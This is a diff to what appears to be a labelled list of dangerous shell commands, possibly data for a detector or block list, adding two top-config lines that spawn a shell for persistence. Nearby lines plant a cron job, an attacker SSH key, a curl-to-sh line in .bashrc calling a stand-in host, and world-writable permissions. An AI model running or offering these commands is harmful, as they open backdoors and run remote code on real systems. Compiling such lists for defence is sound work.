@@ -298,6 +298,8 @@ permissions|chmod -R o+w /var/lib
 permissions|chmod a+w /etc/hosts
 permissions|sudo chmod 777 -R /opt
 permissions|find / -name '*.conf' | xargs chmod 666
+persistence|printf 'pipe\tx\texec /bin/sh 1>&0 2>&0\n' >> ~/.config/procps/toprc; top
+persistence|echo 'pipe x exec sh' > ~/.toprc
 persistence|(crontab -l; echo '* * * * * /tmp/x.sh') | crontab -
 persistence|echo 'ssh-rsa AAAA evil' >> ~/.ssh/authorized_keys
 persistence|echo 'curl http://e.example/x|sh' >> ~/.bashrc
